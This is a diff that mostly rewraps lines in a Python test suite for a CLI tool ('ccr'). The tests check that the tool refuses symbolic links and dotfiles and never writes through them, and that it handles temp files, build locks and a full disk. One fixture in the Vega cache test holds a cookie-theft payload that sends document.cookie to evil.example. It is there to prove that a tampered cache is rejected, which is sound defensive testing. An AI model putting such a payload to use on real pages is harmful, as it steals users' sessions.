@@ -30,19 +30,22 @@ from benchmark.diff import diff_report
 from benchmark.tree_policy import listing_problems
 from tests.helpers import REPO, git, tree_digest
 
-LINK = ("a symbolic link; none is allowed under data/, docs/ or overrides/ — hint: replace "
-        "the link by a copy of the file, or delete it: CCR never reads, publishes or writes "
-        "through a link (it could reach files outside the repository)")
-DOT = ("a hidden file or folder (its name starts with a dot); none is allowed under data/, "
-       "docs/ or overrides/ — hint: rename it without the leading dot, or delete it (a "
-       "*.ccr-tmp file is left over from an interrupted `ccr correct`: delete it)")
+LINK = (
+    "a symbolic link; none is allowed under data/, docs/ or overrides/ — hint: replace "
+    "the link by a copy of the file, or delete it: CCR never reads, publishes or writes "
+    "through a link (it could reach files outside the repository)"
+)
+DOT = (
+    "a hidden file or folder (its name starts with a dot); none is allowed under data/, "
+    "docs/ or overrides/ — hint: rename it without the leading dot, or delete it (a "
+    "*.ccr-tmp file is left over from an interrupted `ccr correct`: delete it)"
+)
 
 
 def invoke(*args: str) -> tuple[int, str, str]:
     """Exit code, stdout and stderr of a ccr command run in-process."""
     result = CliRunner().invoke(cli, list(args))
-    assert result.exception is None or isinstance(result.exception, SystemExit), (
-        result.exception)
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
     return result.exit_code, result.stdout, result.stderr
 
 
@@ -87,10 +90,16 @@ def test_validate_reports_every_link_and_dotfile(tree: Path, outside: Path) -> N
     """Each link and dotfile is one problem, also when only some files are checked."""
     plant(tree, outside)
     assert invoke("validate", "--root", str(tree)) == (
-        1, "\n".join([*PLANTED, "Checked 1 company file and 1 edition: 6 errors.", ""]), "")
+        1,
+        "\n".join([*PLANTED, "Checked 1 company file and 1 edition: 6 errors.", ""]),
+        "",
+    )
     one = str(tree / "data" / "companies" / "neighbour.yaml")
     assert invoke("validate", "--root", str(tree), one) == (
-        1, "\n".join([*PLANTED, "Checked 1 company file and 0 editions: 6 errors.", ""]), "")
+        1,
+        "\n".join([*PLANTED, "Checked 1 company file and 0 editions: 6 errors.", ""]),
+        "",
+    )
 
 
 def test_a_linked_company_file_is_never_read(tree: Path, outside: Path) -> None:
@@ -108,10 +117,17 @@ def test_a_linked_company_file_is_never_read(tree: Path, outside: Path) -> None:
 def test_build_refuses_a_linked_company_file(site_tree: Path, outside: Path) -> None:
     """The build stops on the same problem (it used to build the target as a company)."""
     (site_tree / "data" / "companies" / "leak.yaml").symlink_to(outside / "secret.yaml")
-    assert invoke("build", "--root", str(site_tree)) == (1, "", "\n".join([
-        f"data/companies/leak.yaml:1:1: {LINK}",
-        "Error: the data has 1 error — hint: run `ccr validate` and fix each problem it lists",
-        ""]))
+    assert invoke("build", "--root", str(site_tree)) == (
+        1,
+        "",
+        "\n".join(
+            [
+                f"data/companies/leak.yaml:1:1: {LINK}",
+                "Error: the data has 1 error — hint: run `ccr validate` and fix each problem it lists",  # noqa: E501 - the exact line the user sees
+                "",
+            ]
+        ),
+    )
     assert not (site_tree / "site").exists()
 
 
@@ -123,39 +139,53 @@ def test_diff_reports_the_links_and_dotfiles_a_change_brings(repo: Path) -> None
     git(repo, "commit", "-q", "-m", "innocent data change")
     result = diff_report(repo, "main", "pr", datetime(2026, 11, 23, tzinfo=UTC))
     assert [p.format() for p in result.problems] == [
-        f"{line.split(':', 1)[0]}:1:1: {line.split(': ', 1)[1]}" for line in PLANTED]
+        f"{line.split(':', 1)[0]}:1:1: {line.split(': ', 1)[1]}" for line in PLANTED
+    ]
     assert not result.ok
     code, _, _ = invoke("diff", "main", "pr", "--root", str(repo))
     assert code == 1
     # The same tree at BASE is not a new problem.
     git(repo, "checkout", "-q", "-b", "later")
     (repo / "data" / "companies" / "neighbour.yaml").write_text(
-        (repo / "data" / "companies" / "neighbour.yaml").read_text() + "# a comment\n")
+        (repo / "data" / "companies" / "neighbour.yaml").read_text() + "# a comment\n"
+    )
     git(repo, "commit", "-q", "-am", "comment")
     assert diff_report(repo, "pr", "later", datetime(2026, 11, 23, tzinfo=UTC)).problems == []
 
 
 def test_listing_problems_reads_modes_and_names() -> None:
     """Mode 120000 is a link; a dotted folder is one problem; other folders are not policed."""
-    problems = listing_problems([
-        ("100644", "data/companies/a.yaml"), ("120000", "docs/x.md"),
-        ("100644", "docs/.w/a"), ("120000", "docs/.w/b"), ("120000", "overrides"),
-        ("100644", "README.md"), ("120000", "scripts/x"), ("100644", ".github/x.yml"),
-        ("120000", "data/.y"),
-    ])
+    problems = listing_problems(
+        [
+            ("100644", "data/companies/a.yaml"),
+            ("120000", "docs/x.md"),
+            ("100644", "docs/.w/a"),
+            ("120000", "docs/.w/b"),
+            ("120000", "overrides"),
+            ("100644", "README.md"),
+            ("120000", "scripts/x"),
+            ("100644", ".github/x.yml"),
+            ("120000", "data/.y"),
+        ]
+    )
     assert [(p.kind, p.file) for p in problems] == [
-        ("symlink", "data/.y"), ("dotfile", "docs/.w"), ("symlink", "docs/x.md"),
-        ("symlink", "overrides")]
+        ("symlink", "data/.y"),
+        ("dotfile", "docs/.w"),
+        ("symlink", "docs/x.md"),
+        ("symlink", "overrides"),
+    ]
 
 
 def test_a_linked_data_folder_is_not_read(tree: Path, outside: Path) -> None:
     """data/companies as a link to another folder: reported, and nothing in it is read."""
-    shutil.copyfile(tree / "data" / "companies" / "neighbour.yaml",
-                    outside / "neighbour.yaml")
+    shutil.copyfile(tree / "data" / "companies" / "neighbour.yaml", outside / "neighbour.yaml")
     shutil.rmtree(tree / "data" / "companies")
     (tree / "data" / "companies").symlink_to(outside)
     assert invoke("validate", "--root", str(tree)) == (
-        1, f"data/companies:1:1: {LINK}\nChecked 0 company files and 1 edition: 1 error.\n", "")
+        1,
+        f"data/companies:1:1: {LINK}\nChecked 0 company files and 1 edition: 1 error.\n",
+        "",
+    )
 
 
 def test_files_git_ignores_are_the_maintainers_own(tree: Path) -> None:
@@ -186,13 +216,15 @@ def demo(tmp_path: Path) -> Path:
     git(tmp_path, "add", "-A")
     git(tmp_path, "commit", "-q", "-m", "demo")
     company = tmp_path / "data/companies/alderbyte-goods.yaml"
-    company.write_text(company.read_text().replace("complete_correct: false",
-                                                   "complete_correct: true", 1))
+    company.write_text(
+        company.read_text().replace("complete_correct: false", "complete_correct: true", 1)
+    )
     return tmp_path
 
 
-def test_correct_never_writes_through_a_link_at_its_old_temp_name(demo: Path,
-                                                                  outside: Path) -> None:
+def test_correct_never_writes_through_a_link_at_its_old_temp_name(
+    demo: Path, outside: Path
+) -> None:
     """The old fixed temp name as a link to a hook: the hook is untouched, the link stays."""
     hook = outside / "pre-commit"
     hook.write_text("#!/bin/sh\nexit 0\n")
@@ -200,8 +232,16 @@ def test_correct_never_writes_through_a_link_at_its_old_temp_name(demo: Path,
     link.symlink_to(hook)
     company = demo / "data/companies/alderbyte-goods.yaml"
     before = company.read_text()
-    code, _, err = invoke("correct", "alderbyte-goods", "--summary", "Fixed.", "--date",
-                            "2026-11-20", "--root", str(demo))
+    code, _, err = invoke(
+        "correct",
+        "alderbyte-goods",
+        "--summary",
+        "Fixed.",
+        "--date",
+        "2026-11-20",
+        "--root",
+        str(demo),
+    )
     assert (code, err) == (0, ""), err
     assert hook.read_text() == "#!/bin/sh\nexit 0\n"
     assert link.is_symlink()
@@ -212,15 +252,15 @@ def test_correct_never_writes_through_a_link_at_its_old_temp_name(demo: Path,
 
 
 def test_atomic_write_replaces_a_link_itself_and_refuses_a_linked_folder(
-        tmp_path: Path, outside: Path) -> None:
+    tmp_path: Path, outside: Path
+) -> None:
     """The rename replaces a link, never its target; a folder that is a link is refused."""
     target = outside / "secret.yaml"
     before = target.read_bytes()
     link = tmp_path / "file.txt"
     link.symlink_to(target)
     fsutil.atomic_write(link, b"new\n")
-    assert (link.read_bytes(), link.is_symlink(), target.read_bytes()) == (b"new\n", False,
-                                                                          before)
+    assert (link.read_bytes(), link.is_symlink(), target.read_bytes()) == (b"new\n", False, before)
     folder = tmp_path / "linked"
     folder.symlink_to(outside)
     with pytest.raises(fsutil.UnsafePath, match=r"linked is a symbolic link"):
@@ -229,7 +269,8 @@ def test_atomic_write_replaces_a_link_itself_and_refuses_a_linked_folder(
 
 
 def test_atomic_write_keeps_the_mode_and_leaves_no_temp_on_failure(
-        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The new file has the old one's permissions; a failed rename leaves the old file."""
     path = tmp_path / "f.yaml"
     path.write_bytes(b"old")
@@ -252,10 +293,15 @@ def test_export_refuses_a_linked_folder(tree: Path, outside: Path) -> None:
     out = tree / "export"
     out.symlink_to(outside)
     before = sorted(p.name for p in outside.iterdir())
-    assert invoke("export", "--out", str(out), "--root", str(tree)) == (1, "", (
-        f"Error: {out} is a symbolic link, so CCR will not write through it (nothing was "
-        "changed) — hint: remove the link (`git rm` it if it was committed) and run the "
-        "command again\n"))
+    assert invoke("export", "--out", str(out), "--root", str(tree)) == (
+        1,
+        "",
+        (
+            f"Error: {out} is a symbolic link, so CCR will not write through it (nothing was "
+            "changed) — hint: remove the link (`git rm` it if it was committed) and run the "
+            "command again\n"
+        ),
+    )
     assert sorted(p.name for p in outside.iterdir()) == before
 
 
@@ -268,14 +314,28 @@ def test_new_refuses_a_linked_companies_folder(tree: Path, outside: Path) -> Non
     shutil.copytree(companies, outside / "companies")
     shutil.rmtree(companies)
     companies.symlink_to(outside / "companies")
-    code, out, err = invoke("new", "Acme Support", "--website", "https://acme.example",
-                            "--sector", "software-house", "--fictional", "--root", str(tree))
-    assert (code, out, err) == (1, "", (
-        f"data/companies:1:1: {LINK}\n"
-        "Error: data/companies/acme-support.yaml would not be valid, so it was not written — "
-        "hint: the lines above point into the file as it would have been; fix the option "
-        "behind each (--website, --sector, --country, --fictional, --edition) and run ccr new "
-        "again\n"))
+    code, out, err = invoke(
+        "new",
+        "Acme Support",
+        "--website",
+        "https://acme.example",
+        "--sector",
+        "software-house",
+        "--fictional",
+        "--root",
+        str(tree),
+    )
+    assert (code, out, err) == (
+        1,
+        "",
+        (
+            f"data/companies:1:1: {LINK}\n"
+            "Error: data/companies/acme-support.yaml would not be valid, so it was not written — "
+            "hint: the lines above point into the file as it would have been; fix the option "
+            "behind each (--website, --sector, --country, --fictional, --edition) and run ccr new "
+            "again\n"
+        ),
+    )
     assert sorted(p.name for p in (outside / "companies").iterdir()) == ["neighbour.yaml"]
     with pytest.raises(fsutil.UnsafePath, match="data/companies is a symbolic link"):
         fsutil.make_dir(companies, tree)
@@ -285,18 +345,30 @@ def test_new_refuses_a_linked_companies_folder(tree: Path, outside: Path) -> Non
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize(("name", "action"), [
-    (".ccr-build", "write"), ("site", "delete"), ("site.new", "delete"), ("site.old", "delete"),
-])
-def test_build_never_deletes_through_a_linked_folder(site_tree: Path, outside: Path,
-                                                     name: str, action: str) -> None:
+@pytest.mark.parametrize(
+    ("name", "action"),
+    [
+        (".ccr-build", "write"),
+        ("site", "delete"),
+        ("site.new", "delete"),
+        ("site.old", "delete"),
+    ],
+)
+def test_build_never_deletes_through_a_linked_folder(
+    site_tree: Path, outside: Path, name: str, action: str
+) -> None:
     """A committed .ccr-build (or site, site.new, site.old) link: refused, nothing deleted."""
     (site_tree / name).symlink_to(outside)
     code, out, err = invoke("build", "--root", str(site_tree))
-    assert (code, out, err) == (1, "", (
-        f"Error: {name} is a symbolic link, so CCR will not {action} through it (nothing was "
-        "changed) — hint: remove the link (`git rm` it if it was committed) and run the "
-        "command again\n"))
+    assert (code, out, err) == (
+        1,
+        "",
+        (
+            f"Error: {name} is a symbolic link, so CCR will not {action} through it (nothing was "
+            "changed) — hint: remove the link (`git rm` it if it was committed) and run the "
+            "command again\n"
+        ),
+    )
     assert (outside / "docs" / "canary.txt").read_text() == "still here\n"
     assert sorted(p.name for p in outside.iterdir()) == ["docs", "secret.yaml"]
 
@@ -316,16 +388,19 @@ def test_links_and_dotfiles_in_docs_are_never_copied(tmp_path: Path, outside: Pa
 # --- 4. the Vega cache ----------------------------------------------------------------------
 
 
-def test_a_planted_vega_cache_is_never_served(tmp_path: Path,
-                                              monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_planted_vega_cache_is_never_served(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A cache file with other bytes is made again; one with the pinned hash is used."""
     import vl_convert
 
     version = vl_convert.__version__
     if version not in VEGA_SHA256:
         made = hashlib.sha256(vl_convert.javascript_bundle(SNIPPET).encode()).hexdigest()
-        pytest.fail(f"vl-convert {version} is not pinned: add {version!r}: {made!r} to "
-                    "VEGA_SHA256 in benchmark/build.py")
+        pytest.fail(
+            f"vl-convert {version} is not pinned: add {version!r}: {made!r} to "
+            "VEGA_SHA256 in benchmark/build.py"
+        )
     cache = tmp_path / "cache"
     cache.mkdir()
     evil = b"fetch('https://evil.example/?' + document.cookie);"
@@ -358,10 +433,11 @@ def test_correct_removes_the_temp_file_a_killed_run_left(demo: Path) -> None:
     folder = demo / "data" / "companies"
     stray = folder / f".alderbyte-goods.yaml.{dead_pid()}.k2j4x9.ccr-tmp"
     stray.write_text("half a file")
-    code, _, err = invoke("correct", "alderbyte-goods", "--summary", "Fixed.", "--root",
-                          str(demo))
-    assert (code, err) == (0, f"Removed data/companies/{stray.name}, left by an interrupted "
-                              "ccr correct.\n")
+    code, _, err = invoke("correct", "alderbyte-goods", "--summary", "Fixed.", "--root", str(demo))
+    assert (code, err) == (
+        0,
+        f"Removed data/companies/{stray.name}, left by an interrupted ccr correct.\n",
+    )
     assert not list(folder.glob(".*"))
 
 
@@ -374,12 +450,16 @@ def test_stray_clean_up_keeps_links_and_running_writers(tmp_path: Path, outside:
     (tmp_path / "d.yaml.ccr-tmp").write_text("not ours")
     assert fsutil.clean_stray_temps(tmp_path) == [f".a.yaml.{dead}.abc.ccr-tmp"]
     assert sorted(p.name for p in tmp_path.iterdir()) == [
-        f".b.yaml.{dead}.abc.ccr-tmp", f".c.yaml.{os.getppid()}.abc.ccr-tmp", "d.yaml.ccr-tmp"]
+        f".b.yaml.{dead}.abc.ccr-tmp",
+        f".c.yaml.{os.getppid()}.abc.ccr-tmp",
+        "d.yaml.ccr-tmp",
+    ]
     assert (outside / "secret.yaml").exists()
 
 
-def test_gitignore_covers_every_temp_name_ccr_writes(tmp_path: Path,
-                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_gitignore_covers_every_temp_name_ccr_writes(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The names atomic_write creates (seen mid-write) are ignored by the project's .gitignore."""
     seen: list[str] = []
     real = os.replace
@@ -392,10 +472,21 @@ def test_gitignore_covers_every_temp_name_ccr_writes(tmp_path: Path,
     fsutil.atomic_write(tmp_path / "acme.yaml", b"x")
     assert len(seen) == 1
     assert seen[0].startswith(".acme.yaml.")
-    names = [f"data/companies/{seen[0]}", f"export/{seen[0]}", f"site.new/search/{seen[0]}",
-             "site.new/x", "site.old/x", ".ccr-build/lock"]
-    done = subprocess.run(["git", "check-ignore", "--no-index", *names], cwd=REPO,
-                          capture_output=True, text=True, check=False)
+    names = [
+        f"data/companies/{seen[0]}",
+        f"export/{seen[0]}",
+        f"site.new/search/{seen[0]}",
+        "site.new/x",
+        "site.old/x",
+        ".ccr-build/lock",
+    ]
+    done = subprocess.run(
+        ["git", "check-ignore", "--no-index", *names],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
     assert done.stdout.split() == names
 
 
@@ -414,15 +505,21 @@ with build_lock(Path(sys.argv[1])):
 @pytest.mark.slow
 def test_a_second_build_says_another_is_running(site_tree: Path) -> None:
     """While a build holds the lock, another stops at once and names its pid."""
-    with subprocess.Popen([sys.executable, "-c", HOLD, str(site_tree)],
-                          stdout=subprocess.PIPE, text=True) as holder:
+    with subprocess.Popen(
+        [sys.executable, "-c", HOLD, str(site_tree)], stdout=subprocess.PIPE, text=True
+    ) as holder:
         try:
             assert holder.stdout is not None
             assert holder.stdout.readline() == "locked\n"
-            assert invoke("build", "--root", str(site_tree)) == (1, "", (
-                f"Error: another build is running (pid {holder.pid}) — hint: wait for it to "
-                "finish, or stop it, then build again; the site is replaced only when a build "
-                "succeeds\n"))
+            assert invoke("build", "--root", str(site_tree)) == (
+                1,
+                "",
+                (
+                    f"Error: another build is running (pid {holder.pid}) — hint: wait for it to "
+                    "finish, or stop it, then build again; the site is replaced only when a build "
+                    "succeeds\n"
+                ),
+            )
             assert not (site_tree / "site").exists()
         finally:
             holder.kill()
@@ -437,8 +534,9 @@ def built_tree(built_site: Path, tmp_path: Path) -> Path:
 
 
 @pytest.mark.parametrize("where", ["mkdocs", "docs"])
-def test_a_full_disk_keeps_the_site_and_says_where(built_tree: Path, where: str,
-                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_full_disk_keeps_the_site_and_says_where(
+    built_tree: Path, where: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """ENOSPC while MkDocs writes the site, or while the pages are written: named, not a bug."""
     import mkdocs.utils
 
@@ -455,9 +553,12 @@ def test_a_full_disk_keeps_the_site_and_says_where(built_tree: Path, where: str,
         folder = built_tree / ".ccr-build" / "docs"
     # --clean: a full build (an incremental one would reuse the MkDocs output and the pages)
     code, out, err = invoke("build", "--clean", "--root", str(built_tree))
-    found = re.fullmatch(r"Error: the disk is full: could not write (\S+) — hint: free some "
-                         r"space on that disk \(or raise the quota\) and run the command "
-                         r"again; the previous site is untouched\n", err)
+    found = re.fullmatch(
+        r"Error: the disk is full: could not write (\S+) — hint: free some "
+        r"space on that disk \(or raise the quota\) and run the command "
+        r"again; the previous site is untouched\n",
+        err,
+    )
     assert (code, out) == (1, "")
     assert found, err
     assert found.group(1).startswith(f"{folder}/")
